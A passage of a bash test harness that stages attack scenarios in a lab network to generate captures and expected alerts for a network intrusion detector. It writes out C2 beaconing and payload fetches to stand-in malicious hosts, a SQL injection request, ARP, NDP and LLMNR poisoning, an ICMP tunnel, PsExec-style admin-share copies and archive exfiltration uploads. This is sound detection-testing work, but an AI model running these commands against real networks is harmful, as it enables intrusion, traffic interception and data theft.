  for i in 1 2; do
    nsx ws20 dig @10.77.1.1 +tries=1 +time=2 srv.lab.example A >/dev/null
    sleep 1
  done
  stop_capture
  require benign 2 "udp src port 67 and src host 10.77.1.1"
  require benign 2 "tcp dst port 22 and tcp[tcpflags] == tcp-syn"
  require benign 3 "tcp dst port 445 and tcp[tcpflags] == tcp-syn"
  expect benign "Ordinary traffic compressed into about a minute: dhclient renewals of known workstations 10.77.2.20/.21 at 10.77.1.1, ~17 DNS lookups, HTTP to 198.51.100.10 with a Chrome user-agent, two successful SSH logins from 10.77.1.20 to 10.77.1.10, smbclient reads of the server share from three workstations on 445 (allowed by the policy), LDAP binds and three searches, a ping or ARP of the gateway and servers. No alert may fire at default settings. The one exception is device.new on a replay without saved state, where every device of the servers network is seen for the first time; learn this capture in baseline mode and replay it again with that state, and nothing at all may fire." \
    '[]' '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_intel() {
  local name
  # DNS for the listed bad names, then connections to what they resolve to.
  for name in c2-beacon.malicious.example payload.bad-cdn.test relay7.onion-gw.test; do
    nsx ws20 dig @10.77.1.1 +tries=1 +time=2 "$name" A >/dev/null
  done
  curl_ua ws20 "$BROWSER_UA" http://c2-beacon.malicious.example/gate.php --resolve c2-beacon.malicious.example:80:203.0.113.66
  curl_ua ws20 "$BROWSER_UA" http://payload.bad-cdn.test:8080/stage2.bin --resolve payload.bad-cdn.test:8080:192.0.2.99
  nsx ws20 nc -z -w 3 198.18.0.77 9001
  # Connection to a listed IP with no DNS before it.
  nsx ws21 nc -z -w 3 203.0.113.66 443
  # Attack tools' user-agents against the Internet web server.
  curl_ua ws22 "sqlmap/1.7.2#stable (https://sqlmap.org)" "http://198.51.100.10/item.php?id=1%27%20AND%201%3D1--%20-"
  curl_ua ws22 "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)" "http://198.51.100.10/admin/"
  curl_ua ws22 "gobuster/3.6" "http://198.51.100.10/backup/"
  curl_ua ws22 "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)" "http://198.51.100.10/"
  # And the real Nmap Scripting Engine (its own user-agent), one port only.
  nsx ws23 timeout 60 nmap -sT -n -Pn -p80 --script http-title,http-headers 198.51.100.10 >"$WORK/logs/nmap-nse.txt"
  stop_capture
  require intel 3 "udp dst port 53 and src host 10.77.2.20"
  require intel 4 "tcp dst port 80 and src host 10.77.2.22 and tcp[tcpflags] == tcp-syn"
  expect intel "Threat-intel fixtures (indicators in ../intel-fixtures.md). 10.77.2.20 resolves three listed names and connects to what they return; 10.77.2.21 connects to the listed IP 203.0.113.66:443 without a lookup; 10.77.2.22 sends HTTP requests to 198.51.100.10 with sqlmap, Nikto, gobuster and Nmap NSE user-agents (curl -A); 10.77.2.23 runs real nmap NSE scripts http-title,http-headers against 198.51.100.10:80. Rule ids for intel matches are not fixed yet: each expected match lists the indicator instead." \
    '[]' '  "matches": [
    {"kind": "domain", "indicator": "c2-beacon.malicious.example", "source": {"ip": "10.77.2.20"}, "where": "dns.query"},
    {"kind": "domain", "indicator": "payload.bad-cdn.test", "source": {"ip": "10.77.2.20"}, "where": "dns.query"},
    {"kind": "domain", "indicator": "relay7.onion-gw.test", "source": {"ip": "10.77.2.20"}, "where": "dns.query"},
    {"kind": "domain", "indicator": "c2-beacon.malicious.example", "source": {"ip": "10.77.2.20"}, "where": "http.host"},
    {"kind": "ip", "indicator": "203.0.113.66", "source": {"ip": "10.77.2.20"}, "destination": {"port": 80}, "where": "conn"},
    {"kind": "ip", "indicator": "192.0.2.99", "source": {"ip": "10.77.2.20"}, "destination": {"port": 8080}, "where": "conn"},
    {"kind": "ip", "indicator": "198.18.0.77", "source": {"ip": "10.77.2.20"}, "destination": {"port": 9001}, "where": "conn"},
    {"kind": "ip", "indicator": "203.0.113.66", "source": {"ip": "10.77.2.21"}, "destination": {"port": 443}, "where": "conn"},
    {"kind": "user_agent", "indicator": "sqlmap", "source": {"ip": "10.77.2.22"}, "where": "http.user_agent"},
    {"kind": "user_agent", "indicator": "Nikto", "source": {"ip": "10.77.2.22"}, "where": "http.user_agent"},
    {"kind": "user_agent", "indicator": "gobuster", "source": {"ip": "10.77.2.22"}, "where": "http.user_agent"},
    {"kind": "user_agent", "indicator": "Nmap Scripting Engine", "source": {"ip": "10.77.2.22"}, "where": "http.user_agent"},
    {"kind": "user_agent", "indicator": "Nmap Scripting Engine", "source": {"ip": "10.77.2.23"}, "where": "http.user_agent"}
  ]'
}

scenario_beacon() {
  # An implant's timer: the same HTTP check-in every 3 s less up to 25 % jitter (Cobalt
  # Strike's sleep/jitter), 40 times, to a name on the Internet web server. Beside it,
  # someone browsing the same server: bursts of 1-4 page loads of different pages at
  # irregular gaps. The lab config shortens c2.beacon's full_span to 2 min for this.
  (
    local i
    for i in $(seq 40); do
      curl_ua ws24 "$BROWSER_UA" http://cdn-sync.beacon-lab.example/api/v2/poll --resolve cdn-sync.beacon-lab.example:80:198.51.100.10
      sleep "$(awk -v r="$RANDOM" 'BEGIN { printf "%.2f", 3 - 0.75 * r / 32767 }')"
    done
  ) &
  local beacon=$!
  (
    local i j n
    for i in $(seq 16); do
      n=$((1 + RANDOM % 4))
      for j in $(seq "$n"); do
        curl_ua ws25 "$BROWSER_UA" "http://news.browse-lab.example/section$((RANDOM % 9))/article-$RANDOM$([ $((RANDOM % 2)) = 0 ] && echo "?ref=front-page-$RANDOM&utm_source=lab")" --resolve news.browse-lab.example:80:198.51.100.10
      done
      sleep "$(awk -v r="$RANDOM" 'BEGIN { printf "%.2f", -log(1 - r / 32768) * 7 }')"
    done
  ) &
  wait "$beacon" $!
  stop_capture
  require beacon 40 "tcp[tcpflags] == tcp-syn and src host 10.77.2.24 and dst port 80"
  require beacon 16 "tcp[tcpflags] == tcp-syn and src host 10.77.2.25 and dst port 80"
  expect beacon "10.77.2.24 polls http://cdn-sync.beacon-lab.example/api/v2/poll (curl, resolved to 198.51.100.10) 40 times, every 3 s less up to 25 % jitter: a beacon. 10.77.2.25 browses news.browse-lab.example on the same server in 16 bursts of 1-4 different pages at exponential gaps (mean 7 s): no alert. c2.beacon's full_span is 2 min in the lab config." \
    '[{"rule": "c2.beacon", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "198.51.100.10", "port": 80}, "evidence": {"destination": "cdn-sync.beacon-lab.example"}}]' \
    '  "exclusive": true'
}

scenario_web_variants() {
  # Plain HTTP where another analyzer's port is: 8443 (a TLS port; busybox httpd answers,
  # for this scenario only) and 443 (ncat accepts and never answers).
  scen_bg inet busybox httpd -f -p 8443 -h "$WORK/www"
  wait_listen inet 8443
  curl_ua ws22 "sqlmap/1.7.2#stable (https://sqlmap.org)" "http://198.51.100.10:8443/item.php?id=1"
  curl_ua ws22 "Fuzz Faster U Fool v2.1.0-dev" "http://198.51.100.10:443/FUZZ" --max-time 3
  # Two User-Agent headers in one request: the tool's first, a browser's last (the one Zeek logs).
  nsx ws23 curl -s -o /dev/null --noproxy '*' --max-time 5 \
    -H "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)" \
    -H "User-Agent: $BROWSER_UA" http://198.51.100.10/ || true
  # A browser over HTTP/1.0 on 8443: no alert.
  curl_ua ws20 "$BROWSER_UA" http://198.51.100.10:8443/robots.txt -0
  stop_capture
  require web-variants 1 "tcp dst port 8443 and src host 10.77.2.22 and tcp[tcpflags] & tcp-push != 0"
  require web-variants 1 "tcp dst port 443 and src host 10.77.2.22 and tcp[tcpflags] & tcp-push != 0"
  require web-variants 1 "tcp src port 8443 and tcp[tcpflags] & tcp-push != 0"
  require web-variants 1 "tcp dst port 80 and src host 10.77.2.23 and tcp[tcpflags] & tcp-push != 0"
  expect web-variants "HTTP requests the port does not announce, or with a second User-Agent, to the Internet host 198.51.100.10 (curl 7.88). 10.77.2.22: sqlmap's user-agent in plain HTTP on 8443, a TLS port (busybox httpd answers 404), and ffuf's on 443 (ncat accepts, sends nothing and closes its side); 10.77.2.23: one request to port 80 with two User-Agent headers, Nmap NSE's first and Chrome's last (the one Zeek logs); 10.77.2.20: Chrome over HTTP/1.0 on 8443, which must not alert. ua.attack_tool needs the bundled user-agent list (replay.test.ts loads it)." \
    '[{"rule": "ua.attack_tool", "source": {"ip": "10.77.2.22"}, "destination": {"ip": "198.51.100.10", "port": 8443}, "evidence": {"tool": "sqlmap"}},
    {"rule": "ua.attack_tool", "source": {"ip": "10.77.2.22"}, "destination": {"ip": "198.51.100.10", "port": 443}, "evidence": {"tool": "ffuf"}},
    {"rule": "ua.attack_tool", "source": {"ip": "10.77.2.23"}, "destination": {"ip": "198.51.100.10", "port": 80}, "evidence": {"tool": "Nmap Scripting Engine"}}]' \
    '  "exclusive": true'
}

# IPv6 on for one host of the ipv6 scenario: no duplicate address detection or router
# solicitations (fewer frames), the ULA address ADDR, and the lab ULA on-link.
v6_on() {
  local ns=$1 addr=$2 k
  for k in all default eth0; do
    nsx "$ns" sysctl -qw "net.ipv6.conf.$k.accept_dad=0" "net.ipv6.conf.$k.accept_ra=0" "net.ipv6.conf.$k.router_solicitations=0"
  done
  nsx "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=0 net.ipv6.conf.default.disable_ipv6=0 net.ipv6.conf.eth0.disable_ipv6=0
  [ "$addr" = - ] || nsx "$ns" ip -6 addr add "$addr" dev eth0 nodad
  nsx "$ns" ip -6 route replace fd77::/16 dev eth0
}
link_local() { nsx "$1" ip -6 -o addr show dev eth0 scope link | awk '{print $4}' | cut -d/ -f1; }

scenario_ipv6() {
  local rdp_cr='\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=alice\r\n\x01\x00\x08\x00\x03\x00\x00\x00'
  local ll20 ll21
  # The hosts are on the LAN over IPv4 first (ARP and a ping), as they always are.
  nsx ws20 ping -c 1 -W 1 10.77.2.21 >/dev/null
  nsx srv ping -c 1 -W 1 10.77.2.21 >/dev/null
  v6_on ws20 fd77:2::20/64; v6_on ws21 fd77:2::21/64; v6_on srv fd77:1::10/64
  ll20=$(link_local ws20); ll21=$(link_local ws21)
  [ -n "$ll20" ] && [ -n "$ll21" ] || { log "ipv6: no link-local address"; return 1; }
  # IPv6 peers for RDP and WinRM on 10.77.2.21 (its IPv4 listeners were started without IPv6).
  scen_bg ws21 ncat -6 -lk 3389 --sh-exec "$WORK/rdp-reply.sh"
  scen_bg ws21 ncat -6 -lk 5985 --sh-exec "$WORK/winrm-reply.sh"
  sleep 1
  # Workstation -> workstation over link-local addresses (what LLMNR answers on a Windows LAN): RDP.
  { printf "$rdp_cr"; sleep 1; } | nsx ws20 nc -6 -w 3 "$ll21%eth0" 3389 >/dev/null
  # Server -> workstation over the ULA: a WinRM POST, answered 401 Negotiate.
  curl_ua srv "Microsoft WinRM Client" "http://[fd77:2::21]:5985/wsman" -g -X POST \
    -H 'Content-Type: application/soap+xml;charset=UTF-8' --data '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"/>'
  # A device that speaks only IPv6 plugs into the servers network: ping and an SSH attempt.
  ns_create newdev && ns_plug newdev "$MAC_NEWDEV6"
  v6_on newdev fd77:1::dec6/64
  sleep 0.5
  nsx newdev ping -6 -c 2 -i 0.3 -W 1 fd77:1::10 >/dev/null
  nsx newdev nc -6 -z -w 2 fd77:1::10 22 || true
  stop_capture
  require ipv6 3 "ip6 and tcp dst port 3389 and src net fe80::/10 and dst net fe80::/10"
  require ipv6 3 "ip6 and tcp src port 3389 and src host $ll21"
  require ipv6 1 "ip6 and tcp src port 5985 and src host fd77:2::21"
  require ipv6 2 "ip6 and ether src $MAC_NEWDEV6 and src host fd77:1::dec6"
  expect ipv6 "IPv6 on a Windows-like LAN (IPv6 on for 10.77.2.20, 10.77.2.21 and 10.77.1.10 only; link-local and the lab ULA fd77::/16). The hosts first ARP and ping over IPv4. 10.77.2.20 ($ll20) sends an RDP X.224 Connection Request to 10.77.2.21's link-local address $ll21 (answered by a Connection Confirm): link-local addresses are in no configured network, their MACs place them. Server fd77:1::10 POSTs WinRM to fd77:2::21:5985 (401 Negotiate). A device with the never-seen MAC $MAC_NEWDEV6 and only IPv6 (fd77:1::dec6, in the servers network) pings 10.77.1.10's ULA and tries its SSH port: learn benign.pcap first, then replay this capture with that state (as new-device)." \
    '[{"rule": "lateral.workstation_to_workstation", "source": {"ip": "'"$ll20"'"}, "destination": {"ip": "'"$ll21"'", "port": 3389}, "evidence": {"network_by_mac": ["'"$ll20"'", "'"$ll21"'"]}},
    {"rule": "lateral.server_to_workstation", "source": {"ip": "fd77:1::10"}, "destination": {"ip": "fd77:2::21", "port": 5985}},
    {"rule": "device.new", "source": {"ip": "fd77:1::dec6", "mac": "'"$MAC_NEWDEV6"'"}, "evidence": {"network": "servers"}}]' \
    '  "baseline": ["benign.pcap"]'
}

scenario_nd_scan() {
  v6_on ws20 fd77:2::20/64; v6_on ws21 fd77:2::21/64; v6_on ws22 fd77:2::22/64
  sleep 1
  nsx ws20 timeout 120 nmap -6 -sn -n fd77:2::/121 >"$WORK/logs/nmap-nd.txt"
  stop_capture
  require nd-scan 100 "icmp6 and ip6[40] == 135 and ether src $MAC_WS20"
  expect nd-scan "nmap -6 -sn (IPv6 host discovery on the link) of fd77:2::/121 (128 addresses) from workstation 10.77.2.20 (fd77:2::20): one Neighbor Solicitation per address, answered by the two other workstations with IPv6 on (fd77:2::21, fd77:2::22)." \
    '[{"rule": "scan.arp", "source": {"ip": "fd77:2::20", "mac": "'"$MAC_WS20"'"}, "evidence": {"segment": "workstations"}}]'
}

scenario_mcast_ping() {
  local ll20
  v6_on ws20 fd77:2::20/64; v6_on ws21 fd77:2::21/64; v6_on ws22 fd77:2::22/64
  sleep 1
  ll20=$(link_local ws20)
  # IPv6 host discovery in one packet: an echo request to the all-nodes group, which every host answers.
  nsx ws20 ping -6 -c 2 -i 0.5 -w 5 ff02::1%eth0 >"$WORK/logs/ping-all-nodes.txt" || true
  # The ICMPv6 exchange ends (and is judged) after a minute without packets: wait it out in the capture.
  sleep 65
  stop_capture
  require mcast-ping 2 "icmp6 and ip6[40] == 128 and ip6 dst ff02::1 and ether src $MAC_WS20"
  require mcast-ping 2 "icmp6 and ip6[40] == 129"
  expect mcast-ping "ping -6 -c 2 ff02::1 from workstation 10.77.2.20 (IPv6 on: its link-local $ll20 and fd77:2::20): two echo requests to the all-nodes group, answered by the link's hosts with IPv6 on (fd77:2::21, fd77:2::22 and the sender itself)." \
    '[{"rule": "scan.arp", "source": {"ip": "'"$ll20"'", "mac": "'"$MAC_WS20"'"}, "destination": {"ip": "ff02::1"}, "evidence": {"segment": "ff02::1", "method": "multicast_echo"}}]'
}

scenario_name_poisoning() {
  local d="$WORK/nmb-ws21" name i
  mkdir -p "$d"
  # A legitimate NetBIOS host: nmbd on workstation 10.77.2.21 answers for its own name, WS21.
  cat >"$d/smb.conf" <<EOF
[global]
  workgroup = PKLLAB
  netbios name = WS21
  interfaces = 10.77.2.21/24
  bind interfaces only = yes
  local master = no
  domain master = no
  preferred master = no
  dns proxy = no
$(samba_dirs "$d")
  log file = $WORK/logs/nmbd-ws21.log
EOF
  scen_bg ws21 nmbd --foreground --no-process-group -s "$d/smb.conf"
  wait_listen_udp ws21 137
  # nmbd answers for its name once it has registered it (a few broadcast rounds): ask it directly until it does
  # (its positive answer, for its own name with its own address, is the legitimate case in the capture).
  for i in $(seq 20); do
    nsx ws20 timeout 5 nmblookup -s "$WORK/smb-client.conf" -U 10.77.2.21 WS21 2>/dev/null | grep -q '^10.77.2.21 WS21' && break
    sleep 0.5
  done
  # The poisoner on 10.77.2.66 answers every LLMNR, NBT-NS and mDNS query with its own address.
  scen_bg rogue python3 "$LAB_DIR/name-poisoner.py" 10.77.2.66 40 60
  wait_listen_udp rogue 5355
  # Workstation 10.77.2.20 looks up names DNS could not give it: the real host WS21 (nmbd and the
  # poisoner both answer), a mistyped file server and WPAD over NBT-NS; a share host and WPAD over
  # LLMNR; a printer over mDNS.
  for name in WS21 FILESRVV WPAD; do
    nsx ws20 timeout 10 nmblookup -s "$WORK/smb-client.conf" -B 10.77.2.255 "$name" >>"$WORK/logs/nmblookup.txt" 2>&1 || true
  done
  for name in fileshare wpad; do
    nsx ws20 timeout 10 python3 "$LAB_DIR/name-query.py" llmnr "$name" 10.77.2.20 >>"$WORK/logs/name-query.txt" 2>&1 || true
  done
  nsx ws20 timeout 10 python3 "$LAB_DIR/name-query.py" mdns printer-2f.local 10.77.2.20 >>"$WORK/logs/name-query.txt" 2>&1 || true
  stop_capture
  require name-poisoning 3 "udp src port 137 and src host 10.77.2.66"
  require name-poisoning 1 "udp src port 137 and src host 10.77.2.21 and dst host 10.77.2.20"
  require name-poisoning 2 "udp src port 5355 and src host 10.77.2.66"
  require name-poisoning 1 "udp src port 5353 and src host 10.77.2.66"
  expect name-poisoning "A Responder-style poisoner (test/lab/name-poisoner.py) on 10.77.2.66 answers every LLMNR, NBT-NS and mDNS query with its own address; workstation 10.77.2.20 asks NBT-NS (nmblookup) for WS21, FILESRVV and WPAD, LLMNR for fileshare and wpad, and mDNS for printer-2f.local. nmbd on 10.77.2.21 registers its name WS21 by broadcast and answers a direct query for it: a host answering for its own name raises nothing." \
    '[{"rule": "name.poisoning", "source": {"ip": "10.77.2.66"}, "evidence": {"watched_names": ["wpad"]}}]'
}

scenario_arp_spoof() {
  # The workstation and the router know each other first (real answers: the owners of both addresses).
  nsx ws20 arping -q -c 2 -w 3 -I eth0 10.77.2.254 || true
  nsx ws21 arping -q -c 1 -w 2 -I eth0 10.77.2.20 || true
  # arpspoof on 10.77.2.66 tells 10.77.2.20 that the gateway 10.77.2.254 is at its MAC, and (-r) the
  # gateway that 10.77.2.20 is: a reply every 2 s each way, for 12 s, then it restores both caches.
  scen_bg rogue timeout -s INT 12 arpspoof -i eth0 -t 10.77.2.20 -r 10.77.2.254
  sleep 5
  # Meanwhile another workstation asks for the gateway and gets the real answer (the owner answers again).
  nsx ws21 arping -q -c 2 -w 3 -I eth0 10.77.2.254 || true
  sleep 12
  stop_capture
  require arp-spoof 5 "arp and ether src $MAC_ROGUE and arp[6:2] == 2"
  require arp-spoof 1 "arp and ether src 02:77:00:00:00:fe and arp[6:2] == 2"
  expect arp-spoof "arpspoof -t 10.77.2.20 -r 10.77.2.254 from 10.77.2.66 for 12 s: ARP replies every 2 s telling the workstation 10.77.2.20 that the gateway 10.77.2.254 is at $MAC_ROGUE, and the gateway that 10.77.2.20 is; meanwhile 10.77.2.21 arpings the gateway and the router answers with its own MAC. arpspoof restores both caches as it stops." \
    '[{"rule": "arp.spoofing", "source": {"ip": "10.77.2.66", "mac": "'"$MAC_ROGUE"'"}, "evidence": {"gateways": ["10.77.2.254"], "victims": ["10.77.2.20"]}}]'
}

scenario_icmp_tunnel() {
  # Ordinary large pings first: 40 of 1400 bytes from 10.77.2.21, echoed back (112 kB, and not a tunnel).
  nsx ws21 ping -q -c 40 -i 0.2 -s 1400 -W 1 198.51.100.10 >/dev/null || true
  # The tunnel's server on the "Internet" host answers echo requests itself: the kernel must not echo them too.
  nsx inet sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  scen_bg inet python3 "$LAB_DIR/icmp-tunnel.py" server 198.51.100.10 300 60
  sleep 1
  # 10.77.2.20 sends 200 kB in echo requests of 1,000 bytes; each reply is the server's 28-byte acknowledgement.
  head -c 200000 /dev/urandom >"$WORK/tunnel-payload.bin"
  nsx ws20 timeout 60 python3 "$LAB_DIR/icmp-tunnel.py" client 198.51.100.10 "$WORK/tunnel-payload.bin"
  sleep 1
  nsx inet sysctl -qw net.ipv4.icmp_echo_ignore_all=0
  stop_capture
  require icmp-tunnel 200 "icmp and src host 10.77.2.20 and dst host 198.51.100.10 and icmp[icmptype] == icmp-echo"
  require icmp-tunnel 200 "icmp and src host 198.51.100.10 and dst host 10.77.2.20 and icmp[icmptype] == icmp-echoreply"
  require icmp-tunnel 40 "icmp and src host 198.51.100.10 and dst host 10.77.2.21 and icmp[icmptype] == icmp-echoreply"
  expect icmp-tunnel "A ptunnel-style data channel (test/lab/icmp-tunnel.py) from 10.77.2.20 to 198.51.100.10, whose kernel does not echo: 200 kB in ICMP echo requests of 1,000 bytes, each answered by the server's own 28-byte echo reply; before it, 40 ordinary 1400-byte pings from 10.77.2.21 to the same host, echoed back (not a tunnel)." \
    '[{"rule": "icmp.tunnel", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10"}}]'
}

scenario_nd_spoof() {
  v6_on ws20 fd77:2::20/64; v6_on ws21 fd77:2::21/64; v6_on rogue fd77:2::66/64
  sleep 1
  # The hosts know each other first (each answers for its own address).
  nsx ws20 ping -6 -c 2 -i 0.5 -w 3 fd77:2::21 >/dev/null || true
  nsx rogue ping -6 -c 1 -w 2 fd77:2::20 >/dev/null || true
  # parasite6 on 10.77.2.66 answers every Neighbor Solicitation with its own MAC, and (-l) repeats its
  # advertisements to each victim every 5 s, for 14 s.
  scen_bg rogue timeout -s INT 14 atk6-parasite6 -l eth0
  sleep 2
  # 10.77.2.20 forgets 10.77.2.21's MAC and asks again: both ws21 and the poisoner answer.
  nsx ws20 ip -6 neigh flush dev eth0
  nsx ws20 ping -6 -c 3 -i 1 -w 5 fd77:2::21 >/dev/null || true
  sleep 12
  stop_capture
  require nd-spoof 2 "icmp6 and ip6[40] == 136 and ether src $MAC_ROGUE"
  require nd-spoof 1 "icmp6 and ip6[40] == 136 and ether src 02:77:02:00:00:15"
  expect nd-spoof "atk6-parasite6 -l (THC-IPv6) on the poisoner (fd77:2::66) for 14 s: it answers every Neighbor Solicitation with its own MAC and repeats its advertisements every 5 s; workstation fd77:2::20 flushes its neighbour cache and pings fd77:2::21, which answers for its own address too." \
    '[{"rule": "arp.spoofing", "source": {"ip": "fd77:2::66", "mac": "'"$MAC_ROGUE"'"}, "evidence": {"protocols": ["NDP"]}}]'
}

scenario_rogue_ra() {
  v6_on ws20 fd77:2::20/64; v6_on rogue fd77:2::66/64
  sleep 1
  # fake_router6 (THC-IPv6) on the poisoner announces itself as the link's router with a prefix of its own
  # (documentation space) and itself as DNS server. Hosts here ignore advertisements (accept_ra=0), so
  # nothing configures an address from it.
  scen_bg rogue timeout -s INT 8 atk6-fake_router6 eth0 2001:db8:bad::/64 fd77:2::66
  sleep 10
  stop_capture
  require rogue-ra 1 "icmp6 and ip6[40] == 134 and ether src $MAC_ROGUE"
  expect rogue-ra "atk6-fake_router6 (THC-IPv6) on the poisoner (fd77:2::66) for 8 s: Router Advertisements to every node naming itself the default router, with the prefix 2001:db8:bad::/64 (not one of the site's) and itself as DNS server; the workstations ignore advertisements." \
    '[{"rule": "ipv6.rogue_router", "source": {"ip": "fe80::77:2ff:fe00:42", "mac": "'"$MAC_ROGUE"'"}, "evidence": {"foreign_prefixes": ["2001:db8:bad::/64"]}}]'
}

scenario_admin_share() {
  pe_program "$WORK/svc.exe"
  # As PsExec does: 10.77.2.20 copies a service program to ADMIN$ of workstation 10.77.2.21 and lists
  # it; then puts the same program on C$ under a data file's name, as tools that hide their payload do.
  smbc ws20 '//10.77.2.21/ADMIN$' -N -c "put $WORK/svc.exe PSEXESVC.exe; ls" >"$WORK/logs/admin-share.txt" 2>&1
  smbc ws20 '//10.77.2.21/C$' -N -c "put $WORK/svc.exe wupd.dat; ls" >>"$WORK/logs/admin-share.txt" 2>&1
  stop_capture
  require admin-share 10 "tcp port 445 and host 10.77.2.20 and host 10.77.2.21"
  expect admin-share "smbclient from 10.77.2.20 to Samba on workstation 10.77.2.21, whose shares ADMIN\$ and C\$ stand for Windows' administrative shares: a Windows program (the pe_program helper's) written to ADMIN\$ as PSEXESVC.exe (as PsExec copies its service program), then to C\$ as wupd.dat (a program by its content only)." \
    '[{"rule": "smb.admin_share", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "10.77.2.21"}, "evidence": {"programs": ["\\\\10.77.2.21\\ADMIN$\\PSEXESVC.exe", "\\\\10.77.2.21\\C$\\wupd.dat"]}}]'
}

# A Windows program at $1: the console launcher pip vendors (distlib t64.exe) when this
# Python has it; otherwise a bare PE header (DOS stub pointing at "PE\0\0", machine
# x86-64) padded to 64 KiB, which is what the lab's rules read of a program.
pe_program() {
  local out=$1 dir
  dir=$(python3 -c 'import os, pip._vendor.distlib as m; print(os.path.dirname(m.__file__))' 2>/dev/null || true)
  if [ -n "$dir" ] && [ -f "$dir/t64.exe" ]; then cp "$dir/t64.exe" "$out"; return; fi
  python3 -c '
import struct, sys
b = bytearray(65536)
b[0:2] = b"MZ"; b[0x3c:0x40] = struct.pack("<I", 0x80)
b[0x80:0x86] = b"PE\0\0" + struct.pack("<H", 0x8664)
open(sys.argv[1], "wb").write(b)' "$out"
}

scenario_exe_download() {
  mkdir -p "$WORK/www/img" "$WORK/www/setup" "$WORK/www/bins" "$WORK/www/msdownload" "$WORK/www/files"
  pe_program "$WORK/www/img/logo.png"
  cp "$WORK/www/img/logo.png" "$WORK/www/setup/agent-setup.exe"
  cp "$WORK/www/img/logo.png" "$WORK/www/msdownload/windows-kb-update.exe"
  cp /usr/bin/true "$WORK/www/bins/x86"
  head -c 20000 /dev/urandom | gzip -c >"$WORK/www/files/backup.tar.gz"
  # certutil -urlcache -f http://198.51.100.10/img/logo.png: a program under an image's name, by
  # certutil's user-agent, from a bare address.
  curl_ua ws20 "CertUtil URL Agent" http://198.51.100.10/img/logo.png
  # A browser downloads an installer from a domain nobody else visits.
  curl_ua ws21 "$BROWSER_UA" http://downloads.tools-lab.example/setup/agent-setup.exe --resolve downloads.tools-lab.example:80:198.51.100.10
  # A Linux server fetches an ELF with BusyBox wget from a bare address (the loader step of IoT botnets).
  nsx srv timeout 10 busybox wget -q -O /dev/null http://198.51.100.10/bins/x86
  # No alert: a program from a popular vendor's update domain, an archive, a page.
  curl_ua ws23 "Microsoft-Delivery-Optimization/10.0" http://download.windowsupdate.com/msdownload/windows-kb-update.exe --resolve download.windowsupdate.com:80:198.51.100.10
  curl_ua ws23 "$BROWSER_UA" http://198.51.100.10/files/backup.tar.gz
  curl_ua ws23 "$BROWSER_UA" http://198.51.100.10/index.html
  stop_capture
  require exe-download 3 "tcp src port 80 and dst host 10.77.2.20 and tcp[tcpflags] & tcp-push != 0"
  require exe-download 3 "tcp src port 80 and dst host 10.77.1.10 and tcp[tcpflags] & tcp-push != 0"
  require exe-download 3 "tcp src port 80 and dst host 10.77.2.23 and tcp[tcpflags] & tcp-push != 0"
  expect exe-download "Programs downloaded over plain HTTP from the Internet host 198.51.100.10 (busybox httpd). 10.77.2.20: a Windows program as /img/logo.png (served as image/png) with certutil's user-agent (curl -A); 10.77.2.21: the same program as /setup/agent-setup.exe from downloads.tools-lab.example with a browser's user-agent; server 10.77.1.10: an ELF (/usr/bin/true) as /bins/x86 with BusyBox wget. 10.77.2.23 must not alert: the program as an update from download.windowsupdate.com (a popular domain), a .tar.gz and a page. device.new may fire for the server network's hosts (10.77.1.10 and the router), whose first frames these are." \
    '[{"rule": "http.executable_download", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 80}, "evidence": {"mime_type": "application/x-dosexec", "fetched_by": "certutil", "content_type": "image/png"}},
    {"rule": "http.executable_download", "source": {"ip": "10.77.2.21"}, "destination": {"ip": "198.51.100.10", "port": 80}, "evidence": {"mime_type": "application/x-dosexec", "host": "downloads.tools-lab.example", "fetched_by": null}},
    {"rule": "http.executable_download", "source": {"ip": "10.77.1.10"}, "destination": {"ip": "198.51.100.10", "port": 80}, "evidence": {"mime_type": "application/x-executable", "fetched_by": "Wget"}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_exfil_upload() {
  head -c 1500000 /dev/urandom >"$WORK/www/bundle.bin"
  head -c 1500000 /dev/urandom >"$WORK/exfil.7z"
  # An archive pushed to a server on the Internet over 443 (ncat accepts and never answers), as
  # rclone or a raw socket would.
  nsx ws20 timeout 30 ncat --send-only 198.51.100.10 443 <"$WORK/exfil.7z"
  # A 600 kB HTTP PUT to a file-sharing service's name (curl -T, as to transfer.sh); the listener
  # only reads (a plain ncat -l would close its side at once and curl would give up).
  head -c 600000 /dev/urandom >"$WORK/notes.zip"
  scen_bg inet ncat -lk --recv-only 8000
  wait_listen inet 8000
  nsx ws23 curl -s -o /dev/null --noproxy '*' --max-time 6 -H 'Expect:' -T "$WORK/notes.zip" http://transfer.sh:8000/notes.zip \
    --resolve transfer.sh:8000:198.51.100.10 || true
  # No alert: the same amount downloaded, and a 500 kB upload (under the lab's 1 MB).
  nsx ws21 curl -s -o /dev/null --noproxy '*' --max-time 20 http://198.51.100.10/bundle.bin
  head -c 500000 /dev/urandom | nsx ws22 timeout 30 ncat --send-only 198.51.100.10 9001
  stop_capture
  require exfil-upload 500 "tcp dst port 443 and src host 10.77.2.20"
  require exfil-upload 300 "tcp dst port 8000 and src host 10.77.2.23"
  require exfil-upload 500 "tcp src port 80 and dst host 10.77.2.21"
  expect exfil-upload "Uploads to the Internet host 198.51.100.10, recorded with 160-byte snapshots (the rule reads sequence numbers). 10.77.2.20 sends a 1.5 MB archive to port 443 with ncat and gets nothing back; 10.77.2.23 PUTs 600 kB to transfer.sh (a file-sharing service, by its Host header) with curl -T. Must not alert: 10.77.2.21 downloads 1.5 MB over HTTP, 10.77.2.22 sends 500 kB (under the lab config's min_bytes of 1 MB)." \
    '[{"rule": "exfil.large_upload", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 443}, "evidence": {"file_sharing": false, "destination": "198.51.100.10"}},
